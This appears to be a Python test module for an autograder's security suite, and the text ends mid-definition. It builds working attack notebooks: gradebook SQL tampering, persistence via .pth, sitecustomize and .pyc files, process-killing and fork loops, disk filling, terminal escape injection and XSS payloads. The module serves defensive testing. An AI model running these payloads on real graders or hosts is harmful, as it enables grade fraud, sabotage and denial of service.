"""Attacks on the grader, each a named submission built from the release (like `exploits.py`).

Every attack is one determined student: a builder that takes the released notebook and the
scratch `Course` being graded (so that paths are the real, absolute paths of that course: its
gradebook, masters, classmates' folders, the kit's hidden tests, the Python environment) and
returns what the student hands in: a notebook, raw text or bytes for a malformed file, or a
`Folder` for a submission folder that holds links. `ATTACKS` maps a student id to an `Attack`:
the builder, its family, the grade ids it must lose and, optionally, a text that its notes must
hold. Each graded answer that is not the point of the attack is the corpus's: `WRONG` (the
`estimate_gaussian` that divides by m - 1, and a right `select_threshold`), so that an attack that
worked would show as points it did not deserve.

Code of an answer cell runs twice: in the notebook's run and in the exercise's verdict run.
Payloads that must run in only one of them test for `_ih`, which only IPython's namespace has.
Payloads print only the type of an error (never a message holding a path) and assemble every
active or secret-looking string at run time, so that a leak in the feedback is a real one.
Anything an attack tries to leave behind is named with `MARK`, so that it can be found.

Families: copy-from-disk, hidden-tests, gradebook, persistence, classmates, signals, network,
memory (memory, processes, CPU, what a verdict run sends back), disk, output, terminal (text
aimed at the instructor's terminal and reports), html-js, json, symlink, environment, isolation
(one run reaching another student's run, the host or the grader's channel).

`ClassWatch` records the graded course before, during (through `autograde_class`'s progress
callback) and after grading, for `tests/test_attacks.py`.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import os
import re
import secrets
import socketserver
import sys
import sysconfig
import textwrap
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from exploits import EX1, EX2, RIGHT, WRONG
from nbformat.notebooknode import NotebookNode

from grading.course import KIT_ROOT, Course
from grading.sample_class import fill_answers

LAB = "anomaly_detection"
MARK = "course_attack"
HONEST = ("aaa-honest-first", "zzz-honest-last")  # graded before and after every attacker
BOTH = frozenset({EX1, EX2})
FAMILIES = (
    "copy-from-disk",
    "hidden-tests",
    "gradebook",
    "persistence",
    "classmates",
    "signals",
    "network",
    "memory",
    "disk",
    "output",
    "terminal",
    "html-js",
    "json",
    "symlink",
    "environment",
    "isolation",
)
XSS = "XSS" + "MARK"  # what the html-js attacks put in active content; never in a source as one word


@dataclass(frozen=True)
class Folder:
    """A submission folder with links: `links` (name -> target) beside the notebook; or the
    notebook itself a link (`notebook_link`); or the lab folder itself a link (`folder_link`)."""

    notebook: NotebookNode | None = None
    links: dict[str, Path] = field(default_factory=dict)
    notebook_link: Path | None = None
    folder_link: Path | None = None


Built = NotebookNode | str | bytes | Folder


@dataclass(frozen=True)
class Attack:
    build: Callable[[NotebookNode, Course], Built]
    family: str
    fails: frozenset[str] = frozenset({EX1})
    note: str | None = None

    @property
    def what(self) -> str:
        return (self.build.__doc__ or "").strip()


# ---------------------------------------------------------------------------------------------
# The places of the graded course an attack aims at
# ---------------------------------------------------------------------------------------------


def gradebook(course: Course) -> Path:
    return course.root / "records" / "gradebook.db"


def hidden_tests() -> list[Path]:
    return [KIT_ROOT / "grading" / "verdicts" / "hidden_tests" / f"{LAB}.py"]


def masters(course: Course) -> list[Path]:
    return [course.solutions / LAB / f"{LAB}.ipynb", KIT_ROOT / "solutions" / LAB / f"{LAB}.ipynb"]


def site_packages() -> Path:
    return Path(sysconfig.get_paths()["purelib"])


def configs(course: Course) -> list[Path]:
    return [course.root / "nbgrader_config.py", KIT_ROOT / "nbgrader_config.py"]


def answer_index(release: NotebookNode, grade_id: str = "estimate_gaussian") -> int:
    return next(i for i, c in enumerate(release.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def reversed_id(student: str) -> str:
    """A classmate's id as an expression that does not spell it (the feedback shows the source)."""
    return f"{student[::-1]!r}[::-1]"


def code(template: str, /, **values: object) -> str:
    """Dedented payload source with each @name@ replaced by repr(value), each <<name>> by str(value)."""
    text = textwrap.dedent(template).strip("\n") + "\n"
    for name, value in {"mark": MARK, **values}.items():
        text = text.replace(f"@{name}@", repr(str(value) if isinstance(value, Path) else value))
        text = text.replace(f"<<{name}>>", str(value))
    return text


PRELUDE = '_why = lambda error: f\'{type(error).__name__} {getattr(error, "errno", "") or ""}\'.strip()\n'


def with_payload(
    release: NotebookNode, payload: str, answers: dict[str, str] | None = None, cell: str = "estimate_gaussian"
) -> NotebookNode:
    """The release with `answers` (WRONG by default), `payload` appended to one answer cell."""
    answers = dict(answers or WRONG)
    answers[cell] = answers[cell] + "\n" + PRELUDE + payload
    return fill_answers(release, answers)


# ---------------------------------------------------------------------------------------------
# A loopback server that hands out the right answer: nobody graded may ever reach it
# ---------------------------------------------------------------------------------------------


class _Handler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.server.connections.append(self.client_address)  # type: ignore[attr-defined]
        self.request.sendall(RIGHT["estimate_gaussian"].encode())


class LoopbackServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.connections: list[tuple] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server_address[1]


_LOOPBACK: list[LoopbackServer] = []


def loopback() -> LoopbackServer:
    """The test's server on 127.0.0.1, started the first time it is asked for."""
    if not _LOOPBACK:
        _LOOPBACK.append(LoopbackServer())
    return _LOOPBACK[0]


# ---------------------------------------------------------------------------------------------
# copy-from-disk
# ---------------------------------------------------------------------------------------------


def reference_on_sys_path(release, course):
    """Put the course root (and the kit) on sys.path and import the grader's reference."""
    return with_payload(
        release,
        code(
            """
        import sys
        for _root in (@course@, @kit@):
            sys.path.insert(0, _root)
        try:
            from grading.verdicts.hidden_tests.anomaly_detection import reference_estimate_gaussian as estimate_gaussian
            print("imported the reference")
        except Exception as _error:
            print("no reference:", _why(_error))
    """,
            course=course.root,
            kit=KIT_ROOT,
        ),
    )


def master_solution_cell(release, course):
    """Read the master notebook from solutions/ and exec its estimate_gaussian cell."""
    return with_payload(
        release,
        code(
            """
        import json
        for _path in @masters@:
            try:
                with open(_path) as _file:
                    _cells = json.load(_file)["cells"]
                for _cell in _cells:
                    if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "estimate_gaussian":
                        exec("".join(_cell["source"]))
                        print("ran the master's cell")
            except Exception as _error:
                print("no master:", _why(_error))
    """,
            masters=[str(p) for p in masters(course)],
        ),
    )


def classmate_submission(release, course):
    """Find a classmate's submission in records/submitted and run their estimate_gaussian."""
    return with_payload(
        release,
        code(
            """
        import json, os
        try:
            _folders = sorted(os.listdir(@submitted@))
            print(len(_folders), "classmates found")
            for _name in _folders:
                _path = os.path.join(@submitted@, _name, "anomaly_detection", "anomaly_detection.ipynb")
                try:
                    with open(_path) as _file:
                        _cells = json.load(_file)["cells"]
                    _mine = [c for c in _cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "estimate_gaussian"]
                    if _name.startswith("correct") and _mine:
                        exec("".join(_mine[0]["source"]))
                        print("copied a classmate")
                        break
                except Exception:
                    pass
        except Exception as _error:
            print("no classmates:", _why(_error))
    """,
            submitted=course.submitted,
        ),
    )


def published_numbers(release, course):
    """Hard-code the lab's published mu and variance instead of computing them."""
    answer = code("""
        import numpy as np


        def estimate_gaussian(X):
            return np.array([14.11222578, 14.99771051]), np.array([1.83263141, 1.70974533])
    """)
    return fill_answers(release, {**WRONG, "estimate_gaussian": answer})


def kit_from_environment(release, course):
    """Look for the kit's grading package next to the lab's files and in the environment."""
    return with_payload(
        release,
        code("""
        import importlib.util, os, sys
        print("lab folder:", sorted(os.listdir(".")))
        for _name in ("grading", "grading.verdicts.hidden_tests", "grading.verdicts.hidden_tests.anomaly_detection"):
            try:
                print(_name, "found" if importlib.util.find_spec(_name) else "missing")
            except Exception as _error:
                print(_name, _why(_error))
        try:
            from grading.verdicts.hidden_tests import anomaly_detection as _hidden
            estimate_gaussian = _hidden.reference_estimate_gaussian
        except Exception as _error:
            print("no hidden tests:", _why(_error))
    """),
    )


# ---------------------------------------------------------------------------------------------
# hidden-tests
# ---------------------------------------------------------------------------------------------


def compiled_from_hidden_source(release, course):
    """Read the hidden-test module's source and compile the reference function out of it."""
    return with_payload(
        release,
        code(
            """
        import ast
        for _path in @paths@:
            try:
                with open(_path) as _file:
                    _tree = ast.parse(_file.read())
                _defs = [n for n in _tree.body if isinstance(n, ast.FunctionDef) and n.name.startswith("reference_")]
                exec(compile(ast.Module(body=_defs, type_ignores=[]), "<hidden>", "exec"))
                estimate_gaussian = reference_estimate_gaussian
                print("compiled the reference")
            except Exception as _error:
                print("no source:", _why(_error))
    """,
            paths=[str(p) for p in hidden_tests()],
        ),
    )


def appended_to_hidden_tests(release, course):
    """Append to the hidden-test module a comparison that finds nothing wrong."""
    return with_payload(
        release,
        code(
            """
        for _path in @paths@:
            try:
                with open(_path, "a") as _file:
                    _file.write("\\n# <<mark>>\\nimport dataclasses\\n"
                                "EXERCISES = {k: dataclasses.replace(v, compare=lambda case, outputs: [])"
                                " for k, v in EXERCISES.items()}\\n")
                print("appended to the hidden tests")
            except Exception as _error:
                print("could not append:", _why(_error))
    """,
            paths=[str(p) for p in hidden_tests()],
        ),
    )


def printed_hidden_tests(release, course):
    """Print the hidden-test module and the master's hidden test cells into the notebook."""
    return with_payload(
        release,
        code(
            """
        if "_ih" in globals():
            for _path in @paths@:
                try:
                    with open(_path) as _file:
                        print(_file.read())
                except Exception as _error:
                    print("cannot read:", _why(_error))
    """,
            paths=[str(p) for p in hidden_tests() + masters(course)],
        ),
    )


# ---------------------------------------------------------------------------------------------
# gradebook
# ---------------------------------------------------------------------------------------------

MY_NOTEBOOKS = (
    "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa"
    " ON sn.assignment_id = sa.id WHERE sa.student_id = '{student}'"
)


def _sql(course: Course, statements: list[str]) -> str:
    return code(
        """
        import sqlite3
        try:
            _db = sqlite3.connect(@path@, timeout=2)
            for _statement in @statements@:
                _db.execute(_statement)
            _db.commit()
            print("wrote the gradebook")
        except Exception as _error:
            print("no gradebook:", _why(_error))
    """,
        path=gradebook(course),
        statements=statements,
    )


def gradebook_manual_score(release, course):
    """Give one's own grades full manual scores with an UPDATE of the gradebook."""
    mine = MY_NOTEBOOKS.format(student="attack-gradebook-manual-score")
    return with_payload(release, _sql(course, [f"UPDATE grade SET manual_score = 10 WHERE notebook_id IN ({mine})"]))


def gradebook_lower_classmates(release, course):
    """Set every classmate's grades to zero in the gradebook."""
    mine = MY_NOTEBOOKS.format(student="attack-gradebook-lower-classmates")
    return with_payload(
        release, _sql(course, [f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id NOT IN ({mine})"])
    )


def gradebook_trigger(release, course):
    """Install an SQLite trigger that turns every later score of one's own into full points."""
    mine = MY_NOTEBOOKS.format(student="attack-gradebook-trigger")
    return with_payload(
        release,
        _sql(
            course,
            [
                f"CREATE TRIGGER IF NOT EXISTS {MARK}_trigger AFTER UPDATE ON grade WHEN NEW.notebook_id IN ({mine})"
                " AND (NEW.manual_score IS NULL OR NEW.manual_score < 10)"
                " BEGIN UPDATE grade SET manual_score = 10 WHERE id = NEW.id; END"
            ],
        ),
    )


def gradebook_detached_writer(release, course):
    """Leave a detached process (new session) that rewrites the gradebook once grading moved on."""
    late = code(
        """
        import sqlite3, time  # <<mark>>-late-writer
        for _ in range(120):
            time.sleep(0.5)
            try:
                db = sqlite3.connect(@path@, timeout=1)
                db.execute("UPDATE grade SET auto_score = 10, manual_score = 10")
                db.commit()
            except Exception:
                pass
            try:
                open(@proof@, "w").write("late writer was here")
            except Exception:
                pass
    """,
        path=gradebook(course),
        proof=course.root / "records" / f"{MARK}_late.txt",
    )
    return with_payload(
        release,
        code(
            """
        import subprocess, sys
        try:
            subprocess.Popen([sys.executable, "-c", @late@], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            print("writer started")
        except Exception as _error:
            print("no writer:", _why(_error))
    """,
            late=late,
        ),
    )


# ---------------------------------------------------------------------------------------------
# persistence
# ---------------------------------------------------------------------------------------------


def _write_files(files: dict[str, str], mode: str = "w", make_folders: bool = False) -> str:
    return code(
        """
        import os
        for _path, _text in @files@.items():
            try:
                if @make_folders@:
                    os.makedirs(os.path.dirname(_path), exist_ok=True)
                with open(_path, @mode@) as _file:
                    _file.write(_text)
                print("wrote", os.path.basename(_path))
            except Exception as _error:
                print("could not write", os.path.basename(_path) + ":", _why(_error))
    """,
        files=files,
        mode=mode,
        make_folders=make_folders,
    )


PASS_EVERYTHING = "import grading.preprocessors.verify_answers as _v\n_v.problems_of = lambda *args, **kwargs: []\n"


def pth_in_site_packages(release, course):
    """Plant a .pth file in the venv's site-packages that makes every check pass in later Pythons."""
    line = (
        "import sys; exec("
        + repr(f"try:\n    {PASS_EVERYTHING.replace(chr(10), chr(10) + '    ')}\nexcept Exception:\n    pass\n")
        + ")\n"
    )
    return with_payload(release, _write_files({str(site_packages() / f"{MARK}.pth"): line}))


def sitecustomize_in_site_packages(release, course):
    """Plant sitecustomize.py in the venv's site-packages (and the base interpreter's)."""
    text = f"# {MARK}\ntry:\n    {PASS_EVERYTHING.replace(chr(10), chr(10) + '    ')}\nexcept Exception:\n    pass\n"
    base = Path(sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_prefix})["purelib"])
    return with_payload(
        release, _write_files({str(site_packages() / "sitecustomize.py"): text, str(base / "sitecustomize.py"): text})
    )


def appended_to_nbgrader_config(release, course):
    """Append to nbgrader_config.py a patch that makes every verdict pass."""
    text = f"\n# {MARK}\n{PASS_EVERYTHING}"
    return with_payload(release, _write_files({str(path): text for path in configs(course)}, mode="a"))


def user_nbgrader_config(release, course):
    """Plant nbgrader_config.py in the grader's ~/.jupyter, which nbgrader reads before the course's."""
    path = Path.home() / ".jupyter" / "nbgrader_config.py"
    return with_payload(
        release, _write_files({str(path): f"\n# {MARK}\n{PASS_EVERYTHING}"}, mode="a", make_folders=True)
    )


def pyc_in_grading_pycache(release, course):
    """Plant a compiled grading/verdicts/checks.py in its __pycache__ whose problems_with finds nothing."""
    source_path = KIT_ROOT / "grading" / "verdicts" / "checks.py"
    source = (
        source_path.read_text() + f"\n\nPLANTED = {MARK!r}\n\ndef problems_with(exercise, results):\n    return []\n"
    )
    compiled = compile(source, str(source_path), "exec")
    stat = source_path.stat()
    data = importlib._bootstrap_external._code_to_timestamp_pyc(compiled, int(stat.st_mtime), stat.st_size)
    target = importlib.util.cache_from_source(str(source_path))
    return with_payload(
        release,
        code(
            """
        import base64, os
        try:
            os.makedirs(os.path.dirname(@target@), exist_ok=True)
            with open(@target@, "wb") as _file:
                _file.write(base64.b64decode(@data@))
            print("planted the .pyc")
        except Exception as _error:
            print("could not plant:", _why(_error))
    """,
            target=target,
            data=base64.b64encode(data).decode(),
        ),
    )


def numpy_allclose_on_disk(release, course):
    """Rewrite numpy's allclose in the installed numpy so that it always says True."""
    return with_payload(
        release,
        code("""
        import importlib.util
        try:
            _path = (importlib.util.find_spec("numpy._core.numeric") or importlib.util.find_spec("numpy.core.numeric")).origin
            with open(_path, "a") as _file:
                _file.write("\\n\\ndef allclose(*args, **kwargs):  # <<mark>>\\n    return True\\n")
            print("patched numpy on disk")
        except Exception as _error:
            print("could not patch numpy:", _why(_error))
    """),
    )


STARTUP = f"# {MARK}\nimport numpy\nnumpy.allclose = lambda *args, **kwargs: True\n"


def ipython_startup_grader_home(release, course):
    """Plant an IPython startup file in the grader's own ~/.ipython (root's home)."""
    path = Path.home() / ".ipython" / "profile_default" / "startup" / f"00-{MARK}.py"
    return with_payload(release, _write_files({str(path): STARTUP}, make_folders=True))


def ipython_startup_sandbox_home(release, course):
    """Plant an IPython startup file in the sandbox's own home, hoping a later run reads it."""
    return with_payload(
        release,
        code(
            """
        import os
        _folder = os.path.join(os.environ.get("IPYTHONDIR", os.path.expanduser("~/.ipython")), "profile_default", "startup")
        try:
            os.makedirs(_folder, exist_ok=True)
            with open(os.path.join(_folder, "00-<<mark>>.py"), "w") as _file:
                _file.write(@text@)
            print("planted a startup file in the sandbox's home")
        except Exception as _error:
            print("could not plant:", _why(_error))
    """,
            text=STARTUP,
        ),
    )


def edited_release_notebook(release, course):
    """Rewrite the committed release so that later students' test cells are worth nothing."""
    path = course.releases / LAB / f"{LAB}.ipynb"
    return with_payload(
        release,
        code(
            """
        import json
        try:
            with open(@path@) as _file:
                _nb = json.load(_file)
            for _cell in _nb["cells"]:
                if _cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
                    _cell["metadata"]["nbgrader"]["points"] = 0
            with open(@path@, "w") as _file:
                json.dump(_nb, _file)
            print("rewrote the release")
        except Exception as _error:
            print("could not rewrite the release:", _why(_error))
    """,
            path=path,
        ),
    )


FAKE_PUBLIC_TESTS = f"# {MARK}\ndef estimate_gaussian_test(target):\n    print('All tests passed!')\n"


def lab_helpers_in_working_folder(release, course):
    """Overwrite, replace or remove utils.py and public_tests.py in the working folder."""
    return with_payload(
        release,
        code(
            """
        import os
        for _name in ("utils.py", "public_tests.py"):
            for _how in ("write", "replace", "remove"):
                try:
                    if _how == "write":
                        with open(_name, "a") as _file:
                            _file.write(@text@)
                    elif _how == "replace":
                        with open(_name + ".new", "w") as _file:
                            _file.write(@text@)
                        os.replace(_name + ".new", _name)
                    else:
                        os.remove(_name)
                    print(_how, _name, "worked")
                except Exception as _error:
                    print(_how, _name, _why(_error))
    """,
            text=FAKE_PUBLIC_TESTS,
        ),
    )


def lab_helpers_at_release_path(release, course):
    """Overwrite utils.py and public_tests.py at their path in the course's release."""
    folder = course.releases / LAB
    return with_payload(
        release,
        _write_files(
            {str(folder / "utils.py"): FAKE_PUBLIC_TESTS, str(folder / "public_tests.py"): FAKE_PUBLIC_TESTS}, mode="a"
        ),
    )


def poisoned_course_cache(release, course):
    """Write into records/cache, at its real path and where the sandbox sees it, and over its font list."""
    cache = course.root / "records" / "cache"
    return with_payload(
        release,
        code(
            """
        import glob, os
        _targets = [os.path.join(@cache@, "<<mark>>.json"), "/var/cache/course/<<mark>>.json"]
        _targets += glob.glob("/var/cache/course/**/*.json", recursive=True)
        _targets += glob.glob(os.path.expanduser("~/.config/matplotlib/fontlist-*.json"))
        for _path in _targets:
            try:
                with open(_path, "a") as _file:
                    _file.write("{}")
                print("wrote", os.path.basename(_path))
            except Exception as _error:
                print("could not write", os.path.basename(_path) + ":", _why(_error))
    """,
            cache=cache,
        ),
    )


# ---------------------------------------------------------------------------------------------
# classmates
# ---------------------------------------------------------------------------------------------


def _classmate_path(folder: Path, student: str, name: str) -> str:
    return f"os.path.join({str(folder)!r}, {reversed_id(student)}, {LAB!r}, {name!r})"


def _overwrite(release: NotebookNode, target: str, text: str, what: str) -> NotebookNode:
    """The release with WRONG answers whose first answer cell overwrites the file at `target` (an expression)."""
    return with_payload(
        release,
        code(
            """
        import os
        try:
            with open(<<target>>, "w") as _file:
                _file.write(@text@)
            print("rewrote <<what>>")
        except Exception as _error:
            print("could not rewrite:", _why(_error))
    """,
            target=target,
            text=text,
            what=what,
        ),
    )


def rewrote_later_submission(release, course):
    """Overwrite the submission of a student graded later with the unanswered release."""
    target = _classmate_path(course.submitted, HONEST[1], f"{LAB}.ipynb")
    return _overwrite(release, target, nbformat.writes(release), "a classmate's submission")


def rewrote_earlier_autograded(release, course):
    """Overwrite the autograded notebook of a student graded earlier with an unanswered one."""
    target = _classmate_path(course.autograded, HONEST[0], f"{LAB}.ipynb")
    return _overwrite(release, target, nbformat.writes(release), "a classmate's graded notebook")


def rewrote_earlier_feedback(release, course):
    """Write the feedback page of a student graded earlier (it shows whatever it is given)."""
    target = _classmate_path(course.feedback, HONEST[0], f"{LAB}.html")
    return _overwrite(release, target, f"<h1>0 / 20</h1> {MARK}", "a classmate's feedback")


def listed_and_read_classmates(release, course):
    """List the class in submitted/, autograded/ and feedback/ and print a classmate's graded notebook."""
    return with_payload(
        release,
        code(
            """
        import os
        if "_ih" in globals():
            for _folder in @folders@:
                try:
                    _names = sorted(os.listdir(_folder))
                    print(_names)
                    for _name in _names:
                        _path = os.path.join(_folder, _name, "anomaly_detection", "anomaly_detection.ipynb")
                        if os.path.exists(_path):
                            print(open(_path).read()[:5000])
                            break
                except Exception as _error:
                    print("cannot list:", _why(_error))
    """,
            folders=[str(course.submitted), str(course.autograded), str(course.feedback)],
        ),
    )


# ---------------------------------------------------------------------------------------------
# signals
# ---------------------------------------------------------------------------------------------


def killed_parent_from_notebook(release, course):
    """SIGKILL the notebook's parent (the grader, it hopes) from the notebook's run."""
    return with_payload(
        release,
        code("""
        import os, signal
        if "_ih" in globals():
            try:
                print("parent", os.getppid())
                os.kill(os.getppid(), signal.SIGKILL)
                print("sent SIGKILL to the parent")
            except Exception as _error:
                print("could not kill the parent:", _why(_error))
    """),
    )


def killed_parent_from_answer(release, course):
    """SIGKILL the parent from the answer cell, so also from the exercise's verdict run."""
    return with_payload(
        release,
        code("""
        import os, signal
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except Exception as _error:
            print("could not kill the parent:", _why(_error))
    """),
    )


def killed_every_process(release, course):
    """SIGKILL every pid listed in /proc (but its own), and every process it may signal."""
    return with_payload(
        release,
        code("""
        import os, signal
        _killed = 0
        for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if _pid != os.getpid():
                try:
                    os.kill(_pid, signal.SIGKILL)
                    _killed += 1
                except Exception:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)
        except Exception as _error:
            print("kill(-1):", _why(_error))
        print("killed", _killed, "processes")
    """),
    )


def double_forked_survivor(release, course):
    """Double-fork a process that outlives the run and then kills whatever it can see."""
    late = code(
        """
        import os, signal, time  # <<mark>>-survivor
        time.sleep(3)
        for _ in range(120):
            for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except Exception:
                        pass
            try:
                open(@proof@, "w").write("survivor was here")
            except Exception:
                pass
            time.sleep(0.5)
    """,
        proof=course.root / "records" / f"{MARK}_survivor.txt",
    )
    return with_payload(
        release,
        code(
            """
        import os, sys
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        os.execv(sys.executable, [sys.executable, "-c", @late@])
                finally:
                    os._exit(0)
            os.wait()
            print("survivor started")
        except Exception as _error:
            print("no survivor:", _why(_error))
    """,
            late=late,
        ),
    )


def ignored_alarm_and_forged_events(release, course):
    """Ignore the cell's alarm and write forged end/start events to the protocol pipe to keep running."""
    return with_payload(
        release,
        code(
            """
        import json, os, signal, time
        if "_ih" in globals():
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            _pipes = []
            for _fd in os.listdir("/proc/self/fd"):
                try:
                    if int(_fd) > 2 and os.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                        _pipes.append(int(_fd))
                except OSError:
                    pass
            _events = (json.dumps({"event": "end", "index": @index@, "outputs": [], "execution_count": 1}) + "\\n"
                       + json.dumps({"event": "start", "index": @index@}) + "\\n").encode()
            _until = time.monotonic() + 12
            while time.monotonic() < _until:
                time.sleep(1)
                for _fd in _pipes:
                    try:
                        os.write(_fd, _events)
                    except OSError:
                        pass
            print("still running after 12 s")
    """,
            index=answer_index(release),
        ),
    )


# ---------------------------------------------------------------------------------------------
# network
# ---------------------------------------------------------------------------------------------


def _fetch_answer(port: int, where: str) -> str:
    condition = '"_ih" in globals()' if where == "notebook" else '"_ih" not in globals()'
    return code(
        f"""
        import socket
        if {condition}:
            try:
                with socket.create_connection(("127.0.0.1", @port@), timeout=2) as _connection:
                    _answer = _connection.recv(100_000).decode()
                exec(_answer)
                print("fetched the answer")
            except Exception as _error:
                print("no connection:", _why(_error))
    """,
        port=port,
    )


def loopback_from_notebook(release, course):
    """Fetch the right answer from a server on 127.0.0.1 during the notebook's run."""
    return with_payload(release, _fetch_answer(loopback().port, "notebook"))


def loopback_from_verdict(release, course):
    """Fetch the right answer from a server on 127.0.0.1 during the exercise's verdict run."""
    return with_payload(release, _fetch_answer(loopback().port, "verdict"))


# ---------------------------------------------------------------------------------------------
# memory (memory, processes, CPU, what a verdict run sends back)
# ---------------------------------------------------------------------------------------------


def six_gib(release, course):
    """Allocate and touch 6 GiB, quickly (filling is about 20 times faster than `np.ones` here)."""
    return with_payload(release, "import numpy as np\n_block = np.empty(6 << 30, dtype=np.uint8)\n_block.fill(1)\n")


def fork_until_failure(release, course):
    """Fork sleeping children until the system refuses."""
    return with_payload(
        release,
        code("""
        import os, time
        _children = 0
        try:
            while _children < 5000:
                if os.fork() == 0:
                    try:
                        time.sleep(600)
                    finally:
                        os._exit(0)
                _children += 1
        finally:
            print("forked", _children, "children")
    """),
    )


def cpu_spinning_threads(release, course):
    """Start threads that spin on the CPU while the rest of the run goes on."""
    return with_payload(
        release,
        code("""
        import threading, time

        def _spin(until):
            while time.monotonic() < until:
                pass

        for _ in range(16):
            threading.Thread(target=_spin, args=(time.monotonic() + 2,), daemon=True).start()
    """),
    )


def huge_verdict_array(release, course):
    """In the verdict run, return a 10**8-element array from the graded function."""
    answer = WRONG["estimate_gaussian"] + code("""

        _small = estimate_gaussian


        def estimate_gaussian(X):
            if "_ih" in globals():
                return _small(X)
            import numpy as np
            return np.zeros(10**8), np.zeros(1)
    """)
    return fill_answers(release, {**WRONG, "estimate_gaussian": answer})


def savez_bomb(release, course):
    """Patch numpy.savez in the verdict run to send back a compressed bomb (256 MiB of zeros)."""
    return with_payload(
        release,
        code("""
        import numpy, zipfile
        if "_ih" not in globals():
            def _bomb(file, *args, **kwargs):
                with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as _archive:
                    with _archive.open("case0_out0.npy", "w", force_zip64=True) as _member:
                        _header = "{'descr': '<f8', 'fortran_order': False, 'shape': (33554432,), }"
                        _header = _header.ljust(117) + "\\n"
                        _member.write(b"\\x93NUMPY\\x01\\x00" + len(_header).to_bytes(2, "little") + _header.encode())
                        _chunk = bytes(1 << 20)
                        for _ in range(256):
                            _member.write(_chunk)
            numpy.savez = _bomb
    """),
    )


# ---------------------------------------------------------------------------------------------
# disk
# ---------------------------------------------------------------------------------------------


def one_gigabyte_file(release, course):
    """Write a 1 GB file in the working folder."""
    return with_payload(
        release,
        code("""
        _chunk = bytes(1 << 20)
        with open("<<mark>>.bin", "wb") as _file:
            for _ in range(1024):
                _file.write(_chunk)
    """),
    )


def filled_disk(release, course):
    """Fill /tmp and the home folder, then the working folder, with 60 MB files until no space is left."""
    return with_payload(
        release,
        code("""
        import os
        _chunk = bytes(1 << 20)

        def _fill(folder):
            for _number in range(100):
                with open(os.path.join(folder, f"<<mark>>-{_number}.bin"), "wb") as _file:
                    for _ in range(60):
                        _file.write(_chunk)

        for _folder in ("/tmp", os.path.expanduser("~")):
            try:
                _fill(_folder)
            except OSError as _error:
                print(_folder, _why(_error))
        _fill(".")
    """),
    )


# ---------------------------------------------------------------------------------------------
# output
# ---------------------------------------------------------------------------------------------


def huge_png(release, course):
    """Display a 135 MB image/png output."""
    return with_payload(
        release,
        code("""
        if "_ih" in globals():
            from IPython.display import display
            display({"image/png": "A" * (135 << 20), "text/plain": "<a picture>"}, raw=True)
    """),
    )


def svg_and_javascript(release, course):
    """Display image/svg+xml with a script and application/javascript outputs."""
    return with_payload(
        release,
        code("""
        if "_ih" in globals():
            from IPython.display import display
            _mark, _script = "XSS" + "MARK", "scr" + "ipt"
            _svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(' + repr(_mark) + ')">'
                    + '<' + _script + '>alert(' + repr(_mark) + ')</' + _script + '></svg>')
            display({"image/svg+xml": _svg, "text/plain": "svg"}, raw=True)
            display({"application/javascript": f"alert('{_mark}')", "text/plain": "js"}, raw=True)
            display({"text/javascript": f"alert('{_mark}')"}, raw=True)
    """),
    )


# ---------------------------------------------------------------------------------------------
# terminal
# ---------------------------------------------------------------------------------------------

FORGED_KERNEL_DEATH = "attack-terminal-forged-kernel-death"
# Erase the real line and the one above, set the window title, hide a link, print a table row of 20/20.
TERMINAL_TRICKS = (
    "(it was killed)\r\x1b[2K\x1b[1A\x1b[2K\x1b]0;20/20\x07\x1b]8;;https://example.invalid\x1b\\"
    f"\r[1/1] {FORGED_KERNEL_DEATH}: 20/20 (0.1 s)\x1b]8;;\x1b\\\n{FORGED_KERNEL_DEATH}  20  20  -"
    "\x1b[8m\u202e\x9b2K\r"
)


def forged_kernel_death(release, course):
    """Raise an exception named DeadKernelError whose message rewrites the terminal into a 20/20 line."""
    return with_payload(
        release,
        code(
            """
        if "_ih" in globals():
            class DeadKernelError(Exception):
                pass

            raise DeadKernelError("The kernel died while running this cell " + @tricks@)
    """,
            tricks=TERMINAL_TRICKS,
        ),
    )


# ---------------------------------------------------------------------------------------------
# html-js
# ---------------------------------------------------------------------------------------------


def _html(kind: str, markup: str) -> str:
    return code(
        """
        if "_ih" in globals():
            from IPython.display import display
            _mark = "XSS" + "MARK"
            _lt, _scheme = chr(60), "java" + "script:"
            _markup = @markup@.replace("MARK", _mark).replace("LT", _lt).replace("JS:", _scheme)
            display({@kind@: _markup, "text/plain": "look"}, raw=True)
    """,
        kind=kind,
        markup=markup,
    )


def html_script(release, course):
    """Display HTML with a <script> that would run in the feedback page and formgrader."""
    return with_payload(release, _html("text/html", "LTscript>document.title = 'MARK';LT/script><p>hi</p>"))


def html_iframe(release, course):
    """Display HTML with an <iframe> to a page of the student's choosing."""
    return with_payload(release, _html("text/html", "LTiframe src='https://example.invalid/MARK'>LT/iframe>"))


def html_onerror(release, course):
    """Display HTML with an <img onerror=...> handler and a javascript: link."""
    return with_payload(
        release,
        _html("text/html", "LTimg src=x onerror=\"alert('MARK')\">LTa href=\"JS:alert('MARK')\">score 20/20LT/a>"),
    )


def markdown_script(release, course):
